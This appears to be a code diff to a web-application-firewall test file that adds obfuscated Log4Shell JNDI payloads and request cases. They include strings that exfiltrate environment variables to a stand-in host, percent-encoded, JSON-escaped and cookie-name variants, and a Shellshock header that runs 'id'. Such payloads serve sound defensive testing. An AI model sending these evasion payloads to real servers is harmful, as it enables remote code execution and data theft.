@@ -27,6 +27,10 @@ const LOG4SHELL: [string, string][] = [
   ['${${::-j}ndi:dns://${env:USER}.x.oast.example}', 'exfiltration of a variable'],
   ['${jndi:ldap://127.0.0.1#x.oast.example/a}', 'CVE-2021-45046 hash host'],
   ['${ jndi : ldap://x.oast.example/a}', 'spaces'],
+  ['${${::-j}nd${upper:ı}:ldap://x.oast.example/a}', 'dotless i upper-cased to I'],
+  ['${j${::-n}di:ldap://x.oast.example/a}', 'a default inside the word'],
+  ['${${lower:${lower:j}}ndi:ldap://x.oast.example/a}', 'nested lookups'],
+  ['${jndi:ldap://x.oast.example/${sys:java.version}}', 'exfiltration in the path'],
 ];
 
 /** Headers applications log or read (those the WAF reads for other groups and those it skips). */
@@ -217,6 +221,17 @@ const REQUESTS: MaterialCase[] = [
     get('/cgi-bin/status', { 'User-Agent': "() { :; }; /bin/bash -c 'id'" }),
   ),
   whole('Text4Shell CVE-2022-42889', get(`/search?q=${encodeURIComponent(SPEL[2] as string)}`)),
+  // Log4Shell where the value reaches a logger as sent
+  whole('Log4Shell in the path', get(`/${encodeURIComponent('${jndi:ldap://x.oast.example/a}')}/index.html`)),
+  whole(
+    'Log4Shell fully %-encoded in the query',
+    get('/app?q=%24%7B%6A%6E%64%69%3A%6C%64%61%70%3A%2F%2Fx.oast.example%2Fa%7D'),
+  ),
+  whole(
+    'Log4Shell as JSON escapes',
+    post('/api/log', 'application/json', '{"msg":"\\u0024\\u007bjndi:ldap://x.oast.example/a\\u007d"}'),
+  ),
+  whole('Log4Shell in a cookie name', get('/app', { Cookie: '${jndi:ldap://x.oast.example/a}=1' })),
 ];
 
 function attacks(): MaterialCase[] {
@@ -231,7 +246,9 @@ function attacks(): MaterialCase[] {
           : header === 'Cookie'
             ? `sid=${encodeURIComponent(value)}`
             : value;
-      out.push(whole(`Log4Shell (CVE-2021-44228), ${how}, ${header}`, get('/app?page=1', { [header]: v })));
+      // (bytes beyond Latin-1 as their UTF-8, which is what a client puts on the wire)
+      const wire = Buffer.from(v, 'utf8').toString('latin1');
+      out.push(whole(`Log4Shell (CVE-2021-44228), ${how}, ${header}`, get('/app?page=1', { [header]: wire })));
     }
     const where = PLACES[i % PLACES.length] as { place: WafPlace; name: string };
     out.push({ ...where, value, how: `Log4Shell, ${how}, ${where.place}` });
@@ -269,6 +286,7 @@ const BENIGN_VALUES = [
   'see https://logging.apache.org/log4j/2.x/security.html for the fix',
   'Price: $ {5} per month',
   'set the JNDI name java:comp/env/jdbc/shop in the context',
+  'Sayın ${name}, kapı açık: ${upper:ılık}',
 ];
 
 const BENIGN_REQUESTS: MaterialCase[] = [
